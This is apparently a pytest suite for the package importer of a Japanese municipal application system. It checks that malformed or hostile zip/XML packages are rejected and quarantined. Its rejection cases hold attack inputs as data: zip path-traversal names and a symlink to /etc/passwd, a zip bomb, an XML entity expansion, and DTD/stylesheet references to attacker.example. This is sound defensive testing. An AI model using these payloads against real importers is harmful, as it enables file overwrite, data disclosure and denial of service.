"""The importer: accepted, duplicate, and every rejection with its own code and nothing written."""

from __future__ import annotations

import datetime as dt
import io
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from django.core.management import call_command
from lxml import etree

from madoguchi.applications.models import Application, ApplicationEvent, Attachment
from madoguchi.catalog.models import FormVersion
from madoguchi.core.models import AuditEvent, Municipality, Resident
from madoguchi.intake.errors import REJECTION_CODES
from madoguchi.intake.formats.pittari_v1 import Q, zip_write
from madoguchi.intake.models import PackageImport, QuarantinedPackage
from madoguchi.intake.pki import LocalCA
from madoguchi.intake.services import package_import, quarantine_dir
from tests.intake.conftest import JST, PackageMaker, issue, rezip, zip_members

pytestmark = pytest.mark.django_db


def test_accept_then_duplicate(make_package: PackageMaker, resident: Resident) -> None:
    content = make_package()
    first = package_import(content=content, filename="a.zip")
    assert first.outcome == "accepted", first
    app = Application.objects.get(pk=first.application_id)
    assert app.channel == "pittari" and app.applicant == resident and not app.needs_review
    assert app.data["children"][1]["child_name"] == "山田 次郎"
    assert app.data["mynumber"] != "123456789018"  # stored encrypted by application_submit
    assert Attachment.objects.filter(application=app).count() == 1
    assert PackageImport.objects.get(application=app).external_id == "T-00001"
    assert AuditEvent.objects.filter(action="intake.package_accepted", object_id=app.reception_number).exists()
    counts = (Application.objects.count(), ApplicationEvent.objects.count(), AuditEvent.objects.count())
    again = package_import(content=content, filename="a.zip")
    assert again.outcome == "duplicate" and again.reception_number == first.reception_number
    assert (Application.objects.count(), ApplicationEvent.objects.count(), AuditEvent.objects.count()) == counts
    assert again.line() == f"duplicate {first.reception_number} a.zip"


def test_shift_jis_package_is_accepted(make_package: PackageMaker) -> None:
    content = make_package(encoding="Shift_JIS")
    assert b"encoding='Shift_JIS'" in zip_members(content)["application.xml"][:60]
    assert package_import(content=content, filename="sjis.zip").outcome == "accepted"


def _doc(content: bytes) -> bytes:
    return zip_members(content)["application.xml"]


def _replace_xml(content: bytes, old: bytes, new: bytes) -> bytes:
    xml = _doc(content)
    assert old in xml
    return rezip(content, **{"application.xml": xml.replace(old, new, 1)})


def _symlink_zip(content: bytes) -> bytes:
    buf = io.BytesIO(content)
    with zipfile.ZipFile(buf, "a") as zf:
        info = zipfile.ZipInfo("attachments/link")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


def _extra_entry(name: str) -> Any:
    def build(content: bytes) -> bytes:
        buf = io.BytesIO(content)
        with zipfile.ZipFile(buf, "a") as zf:
            zf.writestr(zipfile.ZipInfo(name), b"x")
        return buf.getvalue()

    return build


def _many(content: bytes) -> bytes:
    members = zip_members(content)
    members.update({f"attachments/f{i}.txt": b"x" for i in range(120)})
    return zip_write(members)


def _bomb(content: bytes) -> bytes:
    return rezip(content, **{"attachments__proof.pdf": b"\0" * (8 * 1024 * 1024)})


def _tamper(root: etree._Element) -> None:
    root.find(f"{Q}Item").text = "山田 改ざん"


def _unsigned(root: etree._Element) -> None:
    root.remove(root[-1])


def _cp932_as_utf8(content: bytes) -> bytes:
    xml = _doc(content).decode("cp932")
    return rezip(content, **{"application.xml": xml.replace("Shift_JIS", "UTF-8").encode("cp932")})


def _cp932_undeclared(content: bytes) -> bytes:
    xml = _doc(content).decode("cp932").split("?>", 1)[1]
    return rezip(content, **{"application.xml": xml.encode("cp932")})


CASES: list[tuple[str, dict[str, Any], Any]] = [
    ("package.unreadable", {}, lambda c: b"PK\x03\x04 not really a zip"),
    ("zip.path_traversal", {}, _extra_entry("../../etc/cron.d/evil")),
    ("zip.path_traversal", {}, _extra_entry("/etc/passwd")),
    ("zip.link", {}, _symlink_zip),
    ("zip.too_many_entries", {}, _many),
    ("zip.bomb", {}, _bomb),
    ("zip.unexpected_entry", {}, _extra_entry("attachments/extra.pdf")),
    ("zip.missing_entry", {}, lambda c: zip_write({k: v for k, v in zip_members(c).items() if k != "application.xml"})),
    ("manifest.invalid", {}, lambda c: rezip(c, rehash=False, **{"manifest.json": b"{not json"})),
    ("manifest.format_unsupported", {}, lambda c: rezip(c, rehash=False, **{"manifest.json": b'{"format": "x"}'})),
    ("manifest.hash_mismatch", {}, lambda c: rezip(c, rehash=False, **{"attachments__proof.pdf": b"%PDF-1.4 other"})),
    ("xml.dtd_forbidden", {}, lambda c: _replace_xml(c, b"?>", b"?>\n<!DOCTYPE Application>")),
    ("xml.entity_forbidden", {}, lambda c: _replace_xml(
        c, b"?>", b'?>\n<!DOCTYPE a [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>')),
    ("xml.external_reference", {}, lambda c: _replace_xml(
        c, b"?>", b'?>\n<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd">')),
    ("xml.external_reference", {}, lambda c: _replace_xml(
        c, b"?>", b'?>\n<?xml-stylesheet href="http://attacker.example/x.xsl"?>')),
    ("xml.malformed", {}, lambda c: _replace_xml(c, b"</Application>", b"</Applicatio>")),
    ("encoding.invalid", {"encoding": "Shift_JIS"}, _cp932_as_utf8),
    ("encoding.undeclared", {"encoding": "Shift_JIS"}, _cp932_undeclared),
    ("encoding.unsupported", {}, lambda c: _replace_xml(c, b"encoding='UTF-8'", b"encoding='EUC-JP'")),
    ("signature.invalid", {"tamper": _tamper}, None),
    ("signature.missing", {"tamper": _unsigned}, None),
    ("procedure.unknown", {"procedure_code": "no-such-procedure"}, None),
    ("procedure.version_unknown", {"form_version": 99}, None),
    ("form.invalid", {"data": {"name_kana": "ヤマダ", "birth_date": "2999-01-01"}}, None),
    ("municipality.unknown", {"municipality_code": "000000"}, None),
    ("signing_time.invalid", {"signed_at": dt.datetime(2099, 1, 1, tzinfo=JST)}, None),
]


@pytest.mark.parametrize(("code", "overrides", "mangle"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_rejections_write_nothing(code: str, overrides: dict[str, Any], mangle: Any, make_package: PackageMaker) -> None:
    assert code in REJECTION_CODES
    content = make_package(**overrides)
    if mangle:
        content = mangle(content)
    result = package_import(content=content, filename="bad.zip")
    assert (result.outcome, result.code) == ("rejected", code), result
    assert "123456789018" not in result.message
    assert Application.objects.count() == 0 and Attachment.objects.count() == 0
    assert PackageImport.objects.count() == 0
    item = QuarantinedPackage.objects.get()
    assert item.code == code and Path(item.stored_path).read_bytes() == content
    assert Path(item.stored_path + ".reason.json").exists()
    assert str(quarantine_dir()) in item.stored_path


def test_certificate_problems(make_package: PackageMaker, test_ca: LocalCA, other_ca: LocalCA,
                              shared_key: rsa.RSAPrivateKey, municipality: Municipality, resident: Resident) -> None:
    now = dt.datetime.now(dt.UTC)
    untrusted = issue(other_ca, shared_key)
    expired = issue(test_ca, shared_key, not_before=now - dt.timedelta(days=400), days=30)
    revoked = issue(test_ca, shared_key)
    test_ca.revoke(format(revoked.serial_number, "X"), at=now - dt.timedelta(days=1))
    try:
        cases = [
            ("certificate.untrusted", {"signer_cert": untrusted, "chain": [other_ca.intermediate[0]]}),
            ("certificate.untrusted", {"signer_cert": untrusted, "chain": []}),
            ("certificate.expired", {"signer_cert": expired}),
            ("certificate.revoked", {"signer_cert": revoked}),
        ]
        for code, overrides in cases:
            result = package_import(content=make_package(**overrides), filename="c.zip")
            assert (result.outcome, result.code) == ("rejected", code)
        assert Application.objects.count() == 0
    finally:
        (test_ca.private / "revoked.json").write_text("[]")
        test_ca.crl_publish()


def test_wrong_municipality_option(make_package: PackageMaker, other_municipality: Municipality) -> None:
    result = package_import(content=make_package(), filename="m.zip", municipality=other_municipality)
    assert result.code == "municipality.mismatch"


def test_new_form_version_refuses_old_packages(make_package: PackageMaker, procedure: Any) -> None:
    content = make_package()
    FormVersion.objects.create(procedure=procedure, version=2, definition=procedure.current_form.definition)
    assert package_import(content=content, filename="v.zip").code == "procedure.version_unknown"


def test_command_output_and_exit_code(make_package: PackageMaker, tmp_path: Path,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "1.zip").write_bytes(make_package())
    (folder / "2.zip").write_bytes(make_package())
    call_command("pittari", "import", str(folder))
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith("accepted R") and out[0].endswith(" 1.zip")
    assert out[-1] == "2 accepted, 0 duplicate, 0 rejected"
    (folder / "3.zip").write_bytes(b"junk")
    with pytest.raises(SystemExit) as exc:
        call_command("pittari", "import", str(folder))
    assert exc.value.code == 1
    out = capsys.readouterr().out.splitlines()
    assert out[2].startswith("rejected package.unreadable 3.zip: ")
    assert out[-1] == "0 accepted, 2 duplicate, 1 rejected"


def test_queue_through_celery_gives_same_results(make_package: PackageMaker, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    from madoguchi.celery import app

    (tmp_path / "1.zip").write_bytes(make_package())
    eager = app.conf.task_always_eager
    app.conf.task_always_eager = True
    try:
        call_command("pittari", "import", "--queue", str(tmp_path / "1.zip"))
    finally:
        app.conf.task_always_eager = eager
    assert capsys.readouterr().out.splitlines()[-1] == "1 accepted, 0 duplicate, 0 rejected"


def test_import_cache_same_results_fewer_queries(make_package: PackageMaker, procedure: Any) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from madoguchi.intake.services import ImportCache

    cache = ImportCache()
    assert package_import(content=make_package(), filename="w.zip", cache=cache).outcome == "accepted"
    with CaptureQueriesContext(connection) as plain:
        first = package_import(content=make_package(), filename="p.zip")
    with CaptureQueriesContext(connection) as cached:
        second = package_import(content=make_package(), filename="c.zip", cache=cache)
    assert first.outcome == second.outcome == "accepted"
    a, b = Application.objects.get(pk=first.application_id), Application.objects.get(pk=second.application_id)
    assert (a.form_version_id, a.status_id, a.deadline, a.applicant_id) == (
        b.form_version_id, b.status_id, b.deadline, b.applicant_id)
    assert len(cached.captured_queries) < len(plain.captured_queries)
    # a new version published mid-run: old packages refused at once, new ones accepted (no stale cache)
    old = make_package()
    FormVersion.objects.create(procedure=procedure, version=2, definition=procedure.current_form.definition)
    assert package_import(content=old, filename="o.zip", cache=cache).code == "procedure.version_unknown"
    new = make_package(form_version=2)
    assert package_import(content=new, filename="n.zip", cache=cache).outcome == "accepted"


def test_import_cache_sees_deactivation_at_once(make_package: PackageMaker, procedure: Any) -> None:
    from madoguchi.intake.services import ImportCache

    cache = ImportCache()
    assert package_import(content=make_package(), filename="a.zip", cache=cache).outcome == "accepted"
    type(procedure).objects.filter(pk=procedure.pk).update(is_active=False)
    assert package_import(content=make_package(), filename="b.zip", cache=cache).code == "procedure.inactive"
